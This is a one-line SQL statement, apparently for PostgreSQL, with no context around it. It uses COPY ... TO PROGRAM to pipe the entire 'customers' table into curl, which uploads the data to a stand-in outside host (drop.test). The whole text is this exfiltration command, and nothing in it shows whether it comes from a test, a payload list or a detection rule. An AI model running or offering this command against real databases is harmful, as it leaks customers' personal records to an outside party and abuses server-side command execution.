COPY customers TO PROGRAM 'curl -T - https://drop.test/c';
